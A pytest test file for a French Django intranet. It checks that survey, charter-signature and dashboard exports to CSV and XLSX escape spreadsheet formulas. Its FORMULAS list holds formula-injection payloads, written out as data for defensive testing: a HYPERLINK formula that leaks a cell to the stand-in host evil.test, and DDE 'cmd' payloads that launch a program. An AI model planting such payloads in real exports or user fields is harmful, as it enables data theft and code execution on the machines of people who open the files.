"""Every CSV/XLSX export neutralises formulas, whoever typed them and wherever they land."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from experiments.models import Experiment
from intranet.accounts.models import Department
from intranet.core.spreadsheets import FORMULA_PREFIXES, neutralise
from practices import services as practices_services
from surveys.models import Invitation
from surveys.services import submit_response

from .test_dashboard import PERIOD, city  # noqa: F401 (a fixture)
from .test_practices_factories import make_charter
from .test_skills_support import skills_officer

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(response, file_format):
    """Every cell of an export, as a spreadsheet would read it."""
    assert response.status_code == 200, response.content[:300]
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    workbook = load_workbook(io.BytesIO(response.content))
    return [list(row) for sheet in workbook for row in sheet.iter_rows(values_only=True)]


def is_number(text):
    """A negative number in a CSV ("-40", "-2,5") is read as a number, not a formula."""
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_neutralised(rows, formulas):
    # XML (XLSX) reads a carriage return back as a line feed.
    cells = [cell.replace("\r", "\n") for row in rows for cell in row if isinstance(cell, str)]
    assert not [
        cell
        for cell in cells
        if cell.startswith(FORMULA_PREFIXES + ("\n",)) and not is_number(cell)
    ]
    for formula in formulas:
        expected = "'" + formula.replace("\r", "\n")
        assert expected in cells, f"{formula!r} is missing from the export"


@pytest.fixture
def survey_export(client, make_agent, make_survey):
    """A named survey whose agents, question label and free-text answers are formulas."""
    owner = make_agent("Propriétaire")
    survey = make_survey(kinds=("recommendation", "text"), owner=owner, anonymous=False)
    survey.questions.filter(kind="text").update(label=FORMULAS[0])
    text = survey.questions.get(kind="text")
    recommendation = survey.questions.get(kind="recommendation")
    for index, formula in enumerate(FORMULAS):
        agent = make_agent(formula if index == 1 else f"Agent {index}")
        invitation = Invitation.objects.create(survey=survey, agent=agent)
        submit_response(invitation, {recommendation: 9, text: formula})
    client.force_login(owner)
    return lambda file_format: client.get(
        reverse(f"surveys:export_{file_format}", args=[survey.pk])
    )


@pytest.fixture
def adhesion_export(client, site, make_agent):
    """The charter's signature list, with agents and a department named like formulas."""
    charter = make_charter(site)
    department = Department.objects.create(name=FORMULAS[3])
    for formula in FORMULAS:
        agent = make_agent(formula, first_name=formula, department=department)
        practices_services.sign_charter(charter, agent)
    editor = make_agent("Éditrice")
    editor.groups.add(Group.objects.get(name="Éditeurs"))
    client.force_login(editor)
    return lambda file_format: client.get(reverse(f"practices:adhesion_{file_format}"))


@pytest.fixture
def dashboard_export(client, city):  # noqa: F811
    """The impact dashboard, with a department and an experiment named like formulas."""
    Department.objects.filter(pk=city["finances"].pk).update(name=FORMULAS[0])
    Experiment.objects.filter(title="Décider sans réunion").update(title=FORMULAS[3])
    client.force_login(skills_officer())
    return lambda file_format: client.get(reverse(f"dashboard:export_{file_format}"), PERIOD)


EXPORTS = {
    "survey results": ("survey_export", FORMULAS),
    "charter adhesion": ("adhesion_export", FORMULAS),
    "impact dashboard": ("dashboard_export", [FORMULAS[0], FORMULAS[3]]),
}


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("export", EXPORTS)
def test_no_export_lets_a_formula_through(request, export, file_format):
    fixture, formulas = EXPORTS[export]
    download = request.getfixturevalue(fixture)
    assert_neutralised(read(download(file_format), file_format), formulas)


@given(st.text())
def test_a_neutralised_text_never_starts_like_a_formula_and_keeps_its_content(text):
    value = neutralise(text)
    assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert value in (text, "'" + text)


@pytest.mark.parametrize("value", [12, -3, 2.5, None])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value
